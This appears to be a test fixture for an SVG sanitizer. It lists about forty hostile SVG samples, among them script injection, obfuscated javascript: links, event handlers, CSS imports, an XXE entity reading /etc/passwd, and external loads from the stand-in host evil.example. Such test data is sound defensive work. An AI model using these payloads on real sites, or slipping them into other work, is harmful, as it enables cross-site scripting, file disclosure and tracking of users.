/** Drawings that try to run something, load something, or take the reader somewhere. Each would call `hit` if it could. */

const svg = (inner: string, attributes = ''): string =>
  `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="100" height="100" ${attributes}>${inner}</svg>`;

const HIT = "document.documentElement.setAttribute('data-hit','1');alert(1)";

export const HOSTILE_SVG: readonly (readonly [name: string, text: string])[] = [
  ['a script', svg(`<script>${HIT}</script>`)],
  [
    'a script from elsewhere',
    svg('<script href="https://evil.example/x.js"/><script xlink:href="data:text/javascript,alert(1)"/>'),
  ],
  ['a script in CDATA', svg(`<script><![CDATA[${HIT}]]></script>`)],
  ['a script with a prefix', svg(`<s:script xmlns:s="http://www.w3.org/2000/svg">${HIT}</s:script>`)],
  ['a script in capitals', svg(`<SCRIPT>${HIT}</SCRIPT>`)],
  ['a page script', svg(`<h:script xmlns:h="http://www.w3.org/1999/xhtml">${HIT}</h:script>`)],
  ['onload of the root', svg('<rect/>', `onload="${HIT}"`)],
  ['onload in capitals', svg('<rect/>', `ONLOAD="${HIT}" OnLoad="${HIT}"`)],
  [
    'events of parts',
    svg(
      `<rect onclick="${HIT}" onmouseover="${HIT}" width="9"/><image href="x" onerror="${HIT}"/><g onfocusin="${HIT}" tabindex="0"/>`,
    ),
  ],
  ['a link that runs', svg(`<a href="javascript:${HIT}"><text>go</text></a>`)],
  [
    'a link that runs, hidden',
    svg(`<a xlink:href="java&#9;script:${HIT}"><text>go</text></a><a href="&#x6A;avascript:${HIT}"><text>go</text></a>`),
  ],
  ['a set of an address', svg(`<a id="a"><text>go</text><set attributeName="href" to="javascript:${HIT}"/></a>`)],
  ['an animated address', svg(`<a><animate attributeName="xlink:href" values="javascript:${HIT}"/><text>x</text></a>`)],
  ['an animation with events', svg(`<rect><animate onbegin="${HIT}" attributeName="x" dur="1s"/></rect>`)],
  [
    'foreign content',
    svg(
      `<foreignObject width="99" height="99"><body xmlns="http://www.w3.org/1999/xhtml" onload="${HIT}"><script>${HIT}</script><iframe src="javascript:${HIT}"/></body></foreignObject>`,
    ),
  ],
  ['an inner frame', svg(`<iframe xmlns="http://www.w3.org/1999/xhtml" srcdoc="&lt;script&gt;${HIT}&lt;/script&gt;"/>`)],
  [
    'a picture from elsewhere',
    svg('<image href="https://evil.example/pixel.png" width="9" height="9"/><image xlink:href="//evil.example/p"/>'),
  ],
  [
    'a picture that is a drawing with a script',
    svg(`<image href="data:image/svg+xml,${encodeURIComponent(svg(`<script>${HIT}</script>`))}"/>`),
  ],
  ['a use from elsewhere', svg('<use href="https://evil.example/x.svg#a"/><use xlink:href="data:image/svg+xml;base64,AAAA#x"/>')],
  [
    'a filter that loads',
    svg('<filter id="f"><feImage href="https://evil.example/x"/></filter><rect filter="url(https://evil.example/#f)"/>'),
  ],
  [
    'a sheet that loads',
    svg('<style>@import "https://evil.example/x.css"; rect { fill: url(https://evil.example/x) }</style><rect/>'),
  ],
  ['a sheet that loads, hidden', svg('<style>@\\69mport "https://evil.example"; a { b: u\\72l(//evil.example) }</style>')],
  [
    'a sheet that loads a font',
    svg('<style>@font-face { font-family: x; src: url(https://evil.example/x.woff) }</style><text font-family="x">a</text>'),
  ],
  ['a sheet with image-set', svg('<style>rect { background: image-set("https://evil.example/x" 1x) }</style>')],
  ['a sheet that closes itself', svg(`<style>a{}&lt;/style&gt;&lt;script&gt;${HIT}&lt;/script&gt;</style>`)],
  ['a sheet in CDATA', svg(`<style><![CDATA[</style><script>${HIT}</script>]]></style>`)],
  [
    'a style that loads',
    svg('<rect style="fill:url(https://evil.example/x)"/><rect style="background:url(\'//evil.example\')"/>'),
  ],
  ['a style that runs', svg(`<rect style="width:expression(${HIT.replaceAll("'", '')});behavior:url(x)"/>`)],
  [
    'paint from elsewhere',
    svg(
      '<rect fill="url(https://evil.example/#a)" mask="url( \'//evil.example/m#m\' )" cursor="url(https://evil.example/c),auto"/>',
    ),
  ],
  ['an entity', `<!DOCTYPE svg [<!ENTITY x "<script>${HIT}</script>">]>${svg('&x;')}`],
  ['an entity from elsewhere', `<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>${svg('<text>&x;</text>')}`],
  ['a document type from elsewhere', `<!DOCTYPE svg SYSTEM "https://evil.example/x.dtd">${svg('<rect/>')}`],
  ['a sheet by instruction', `<?xml version="1.0"?><?xml-stylesheet href="https://evil.example/x.css"?>${svg('<rect/>')}`],
  ['a sheet that transforms', `<?xml-stylesheet type="text/xsl" href="data:text/xsl,x"?>${svg('<rect/>')}`],
  ['a comment that ends early', svg(`<!-- --!><script>${HIT}</script> --><rect/>`)],
  ['a base', svg('<rect/>', 'xml:base="javascript:alert(1)//"')],
  [
    'a text that looks like markup',
    svg(`<text>&lt;script&gt;${HIT}&lt;/script&gt;</text><title>&#60;img src=x onerror=alert(1)&#62;</title>`),
  ],
  [
    'an attribute that breaks out',
    svg(`<rect id='"&gt;&lt;script&gt;${HIT.replaceAll("'", '')}&lt;/script&gt;' class="&quot; onload=&quot;alert(1)"/>`),
  ],
  [
    'another namespace for svg',
    `<svg xmlns="http://www.w3.org/1999/xhtml"><script>${HIT}</script><img src="x" onerror="alert(1)"/></svg>`,
  ],
  [
    'an embedded object',
    svg('<object data="https://evil.example/x"/><embed src="https://evil.example/x"/><audio src="x" onerror="alert(1)"/>'),
  ],
  ['a handler', svg(`<handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">${HIT}</handler>`)],
  ['a refresh', svg('<meta xmlns="http://www.w3.org/1999/xhtml" http-equiv="refresh" content="0;url=https://evil.example"/>')],
  ['a broken tag', `<svg xmlns="http://www.w3.org/2000/svg"><script>${HIT}</script`],
  [
    'what a prototype would give',
    svg('<constructor/><__proto__ x="1"><script/></__proto__><rect __proto__="x" constructor="y"/>'),
  ],
];
